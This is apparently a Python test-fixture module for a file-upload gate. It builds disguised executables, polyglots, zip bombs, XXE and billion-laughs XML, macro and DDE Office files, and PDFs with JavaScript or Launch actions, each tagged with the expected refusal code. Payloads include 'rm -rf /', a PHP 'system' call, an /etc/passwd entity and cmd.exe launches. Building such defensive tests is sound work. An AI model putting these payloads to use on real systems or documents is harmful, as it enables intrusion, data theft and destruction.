"""What the gate must refuse: name, content, code of the refusal; grouped by family.

A content that takes long to make is a function that makes it.
"""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.core.files import fetching, making

EXE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + b"\0" * 44
EXE += b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0L\x01"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ZIP = making.zipped({"a.txt": "a"})
EMPTY_ZIP = b"PK\x05\x06" + b"\0" * 18
FORGED_ZIP = b"PK\x03\x04\xff\xff" + ZIP[6:]  # programs that unpack go by the list at its end
PDF = making.pdf()
JPG = making.picture("JPEG")
PNG = making.picture("PNG")
DOCX = making.docx()


def wrong_types():
    yield "báo cáo.pdf", EXE, "program"
    yield "báo cáo.docx", EXE, "program"
    yield "ảnh.jpg", EXE, "program"
    yield "setup.exe", EXE, "program"
    yield "chay.png", b"\x7fELF\x02\x01\x01" + b"\0" * 60, "program"
    yield "lenh.pdf", b"#!/bin/sh\nrm -rf /\n", "program"
    yield "trang.pdf", HTML, "disguised"
    yield "anh.png", SVG, "disguised"
    yield "hinh.svg", SVG, "not_taken"
    yield "trang.html", HTML, "not_taken"
    yield "bo.zip", ZIP, "not_taken"
    yield "bo.docx", ZIP, "disguised"
    yield "cu.docx", OLE, "disguised"
    yield "cu.doc", OLE, "not_taken"
    yield "ghi.pdf", "Kính gửi Ủy ban nhân dân tỉnh".encode(), "disguised"
    yield "dong.jpg", making.picture("GIF"), "disguised"
    yield "anh.png", JPG, "wrong_name"
    yield "anh.pdf", PNG, "wrong_name"
    yield "bao cao.xlsx", DOCX, "wrong_name"
    yield "bao cao", PDF, "wrong_name"
    yield "la.pdf", bytes(range(256)) * 8, "disguised"
    yield "trinh chieu.docx", making.zipped({"[Content_Types].xml": "", "ppt/a": ""}), "disguised"


def empty_and_cut():
    yield "rong.pdf", b"", "empty"
    yield "cut.pdf", PDF[: len(PDF) // 2], "damaged"
    yield "dau.pdf", b"%PDF-1.7\n", "damaged"
    yield "vo.pdf", b"%PDF-1.7\n" + b"x" * 500 + b"\n%%EOF\n", "damaged"
    yield "cut.docx", DOCX[: len(DOCX) // 2], "disguised"
    yield "cut.jpg", JPG[: len(JPG) // 2], "damaged"
    yield "cut.png", PNG[: len(PNG) // 2], "damaged"
    yield "dau.png", PNG[:20], "damaged"
    yield "loi.docx", DOCX[:-1] + b"\x01", "two_things"
    yield "hong.docx", making.docx(body="<w:p>" + "x" * 10), "damaged"


def two_files_in_one():
    yield "hai.pdf", PDF + ZIP, "two_things"
    yield "hai.pdf", PDF + b"<script>alert(1)</script>", "two_things"
    yield "hai.jpg", JPG + ZIP, "two_things"
    yield "hai.png", PNG + ZIP, "two_things"
    yield "hai.png", PNG + PDF, "two_things"
    yield "hai.jpg", JPG + PDF, "two_things"
    yield "ma.jpg", making.picture("JPEG", comment=b"<?php system('id'); ?>"), "two_things"
    yield "ma.jpg", making.picture("JPEG", comment=b"%PDF-1.4"), "two_things"
    yield "ma.png", PNG + HTML, "two_things"
    rar, end = b"Rar!\x1a\x07\x01\0" + b"\0" * 20, PNG[-12:]
    for hidden in (ZIP, rar, PDF, EXE, b"7z\xbc\xaf\x27\x1c" + b"\0" * 20, OLE, EMPTY_ZIP):
        yield "hai.png", PNG + hidden + end, "two_things"  # and an end of its own behind it
        yield "hai.jpg", JPG + hidden + b"\xff\xd9", "two_things"
        yield "hai.jpg", JPG[:-2] + hidden + b"\xff\xd9", "two_things"
    for hidden in (ZIP, rar, EXE, ZIP + b" " * 70_000, HTML, FORGED_ZIP):
        yield "hai.pdf", PDF + hidden + b"\n%%EOF\n", "two_things"
    yield "hai.jpg", JPG + JPG + ZIP + b"\xff\xd9", "two_things"
    yield "hai.png", PNG + FORGED_ZIP + end, "two_things"
    yield "hai.docx", EXE + DOCX, "program"
    yield "hai.docx", DOCX + b"%PDF-1.7", "two_things"
    yield "hai.docx", making.zipped({"%PDF-1.7": ""} | making.docx_parts()), "two_things"


def bombs():
    yield "bom.docx", lambda: making.docx(more={"word/a.xml": b"<a>" + b" " * 210_000_000}), "bomb"
    yield "nhieu.docx", making.docx(more={f"word/{n}.txt": "" for n in range(2100)}), "many_entries"
    yield "hang.xlsx", lambda: too_many_rows(xl__worksheets__sheet2xml=""), "many_rows"
    yield "noi doi.docx", lying_about_its_size(), "bomb"
    yield "chong.docx", overlapping(), "bomb"
    nesting = lambda: making.docx(more={"word/embeddings/a.xlsx": too_many_rows()})
    yield "long.docx", nesting, "many_rows"
    nested = making.docx(more={"word/embeddings/b.docx": DOCX})
    yield "long.docx", making.docx(more={"word/embeddings/a.docx": nested}), "ole"
    yield "lap.docx", twice_the_same(), "damaged"
    yield "ra ngoai.docx", making.docx(more={"../../etc/x.xml": "<a/>"}), "damaged"
    yield "trang.pdf", lambda: making.pdf(pages=1001), "many_pages"


def too_many_rows(**more):
    rows = "<row r='1'><c><v>1</v></c></row>" * 100_001
    return making.xlsx(**more, **{"xl__worksheets__sheet1.xml": making.sheet(rows)})


def lying_about_its_size():
    """The directory says ten bytes; a million come out."""
    good = making.zipped(making.docx_parts() | {"word/a.xml": b"<a>" + b" " * 1_000_000})
    true, false = struct.pack("<I", 1_000_003), struct.pack("<I", 10)
    return good.replace(true, false)


def overlapping():
    """Two names for the same packed bytes, as the bombs do that unpack to petabytes."""
    made = BytesIO(making.zipped(making.docx_parts() | {"word/a.xml": "<a/>"}))
    with zipfile.ZipFile(made, "a") as archive:
        entry = archive.infolist()[-1]
        twin = zipfile.ZipInfo("word/b.xml")
        for field in ("header_offset", "file_size", "compress_size", "CRC", "compress_type"):
            setattr(twin, field, getattr(entry, field))
        archive.filelist.append(twin)
        archive.NameToInfo["word/b.xml"] = twin
        archive._didModify = True
    return made.getvalue()


def twice_the_same():
    made = BytesIO(DOCX)
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("WORD/document.xml", making.word())
    return made.getvalue()


def xml():
    laughs = '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;">]><a>&y;</a>'
    outside = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    for text in (laughs, outside, '<!DOCTYPE a SYSTEM "http://example.org/a.dtd"><a/>'):
        yield "xml.docx", making.docx(more={"word/a.xml": text}), "xml"
        yield "xml.xlsx", making.xlsx(xl__a_xml="", **{"xl__a.xml": text}), "xml"
    yield "xml.docx", making.docx(more={"word/a.xml": laughs.encode("utf-16")}), "xml"
    far = "<!--" + "x" * 300_000 + "-->" + laughs
    yield "xml.docx", making.docx(more={"word/a.xml": far}), "xml"
    coded = '<?xml version="1.0" encoding="UTF-7"?><a/>'
    yield "xml.docx", making.docx(more={"word/a.xml": coded}), "xml"
    yield "xml.docx", making.docx(more={"word/_rels/a.xml.rels": laughs}), "xml"


def active_office():
    macro = f"{making.MAIN.replace('openxmlformats-officedocument', 'ms-word')}.document.macroEnabled.main+xml"
    yield "ma.docx", making.docx(more={"word/vbaProject.bin": OLE}), "macro"
    yield "ma.docx", making.docx(types=macro), "macro"
    yield "ma.docx", making.docx(types=macro.replace("Enabled", "&#69;nabled")), "macro"
    yield "ma.xlsx", making.xlsx(xl__macrosheets__sheet1="<a/>"), "macro"
    yield "ma.docx", making.docx(more={"word/activeX/activeX1.xml": "<a/>"}), "macro"
    yield "ole.docx", making.docx(more={"word/embeddings/oleObject1.bin": OLE}), "ole"
    yield "ole.docx", making.docx(rels=[("oleObject", "embeddings/a.bin", False)]), "ole"
    yield "ole.docx", making.docx(rels=[("aFChunk", "a.html", False)]), "ole"
    yield "exe.docx", making.docx(more={"word/media/a.png": EXE}), "ole"
    yield (
        "mau.docx",
        making.docx(rels=[("attachedTemplate", "http://a.example/t.dotm", True)]),
        "template",
    )
    yield "anh.docx", making.docx(rels=[("image", r"\\a.example\x.png", True)]), "outside"
    outside = making.relationships(("image", "http://a.example/x.png", True))
    coded = outside.replace("External", "Extern&#97;l")
    yield "anh.docx", making.docx(more={"word/_rels/document.xml.rels": coded}), "outside"
    field = "<w:instrText>{}</w:instrText>"
    yield "dde.docx", making.docx(body=field.format("DDEAUTO c:\\\\cmd.exe")), "dde"
    yield "dde.docx", making.docx(body=field.format("DD") + field.format("E cmd")), "dde"
    yield "dde.docx", making.docx(body=field.format("&#68;DE cmd")), "dde"
    yield "dde.docx", making.docx(body='<w:fldSimple w:instr="DDE cmd"/>'), "dde"
    far = "<w:p/>" * 60_000
    yield "dde.docx", making.docx(body=far + field.format("DDE cmd") + far), "dde"
    link = f'<externalLink xmlns="{making.S}"><ddeLink ddeService="cmd"/></externalLink>'
    yield "dde.xlsx", making.xlsx(**{"xl__externalLinks__externalLink1.xml": link}), "dde"
    yield "noi.xlsx", making.xlsx(**{"xl__connections.xml": "<connections/>"}), "outside"


def active_pdf():
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    root = {
        "script": ("OpenAction", script),
        "launch": ("OpenAction", Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        "xfa": ("AcroForm", Dictionary(Fields=Array([]), XFA=String("<xdp/>"))),
    }
    for code, (key, value) in root.items():
        yield f"{code}.pdf", making.pdf(change=with_root(key, value)), code
    scripts = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    yield "script.pdf", making.pdf(change=with_root("Names", scripts)), "script"
    packed = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    yield (
        "script.pdf",
        making.pdf(change=with_root("AA", Dictionary(WC=script)), **packed),
        "script",
    )
    yield "kem.pdf", making.pdf(change=with_attachment), "embedded"
    media = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    yield "phim.pdf", making.pdf(change=with_note(media)), "embedded"
    act = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=script)
    yield "nut.pdf", making.pdf(change=with_note(act)), "script"


def acting_pdf():
    """What sends, fetches or leads elsewhere before anybody has clicked."""
    far = Dictionary(FS=Name.URL, F=String("http://a.example/x"))
    out = {
        "gui": Dictionary(S=Name.SubmitForm, F=far),
        "noi khac": Dictionary(S=Name.GoToR, F=String("\\\\10.0.0.1\\a\\b.pdf"), D=Array([0])),
        "trang": Dictionary(S=Name.URI, URI=String("http://a.example/")),
        "mach": Dictionary(S=Name.Thread, F=far, D=0),
    }
    for name, action in out.items():
        yield f"{name}.pdf", making.pdf(change=with_root("OpenAction", action)), "reaches_out"
    link = lambda: Dictionary(S=Name.URI, URI=String("http://a.example/"))
    first = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([link()]))
    yield "sau do.pdf", making.pdf(change=with_root("OpenAction", first)), "reaches_out"
    yield "rieng.pdf", making.pdf(change=with_indirect(link())), "reaches_out"
    yield "lat.pdf", making.pdf(change=with_page("AA", Dictionary(O=link()))), "reaches_out"
    over = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), AA=Dictionary(E=link())
    )
    yield "tro vao.pdf", making.pdf(change=with_note(over)), "reaches_out"
    taken = Dictionary(S=Name.ImportData, F=far)
    yield "nap.pdf", making.pdf(change=with_root("OpenAction", taken)), "launch"


def with_indirect(action):
    """The action stands apart and is followed by itself, so that reading it could go on for ever."""

    def change(book):
        apart = book.make_indirect(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))
        apart.Next = Array([apart, book.make_indirect(action)])
        book.Root.OpenAction = apart

    return change


def with_page(key, value):
    return lambda book: book.pages[0].__setitem__(f"/{key}", value)


def with_root(key, value):
    return lambda book: book.Root.__setitem__(f"/{key}", value)


def with_note(note):
    return lambda book: book.pages[0].__setitem__("/Annots", Array([note]))


def with_attachment(book):
    book.attachments["a.exe"] = EXE


def encrypted():
    for user in ("mật khẩu", ""):
        lock = pikepdf.Encryption(owner="chủ", user=user)
        yield "khoa.pdf", making.pdf(encryption=lock), "encrypted"
    yield "khoa.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"
    flagged = bytearray(DOCX)
    at = flagged.index(b"PK\x01\x02")
    flagged[at + 8] |= 1
    yield "khoa.docx", bytes(flagged), "encrypted"


def images():
    yield "ngap.png", making.png_that_says(20_000, 20_000), "many_pixels"
    yield "ngap.png", making.png_that_says(2**31 - 1, 1), "many_pixels"
    broken = bytearray(PNG)
    broken[len(PNG) // 2] ^= 0xFF
    yield "hong.png", bytes(broken), "damaged"
    big = bytearray(JPG)
    at = big.index(b"\xff\xc0")
    big[at + 5 : at + 9] = struct.pack(">HH", 20_000, 20_000)
    yield "ngap.jpg", bytes(big), "many_pixels"
    yield "van ban.png", b"\x89PNG\r\n\x1a\n" + zlib.compress(b"x" * 100), "damaged"


FAMILIES = {
    family.__name__: list(family())
    for family in (
        wrong_types,
        empty_and_cut,
        two_files_in_one,
        bombs,
        xml,
        active_office,
        fetching.fetched,
        active_pdf,
        acting_pdf,
        encrypted,
        images,
    )
}
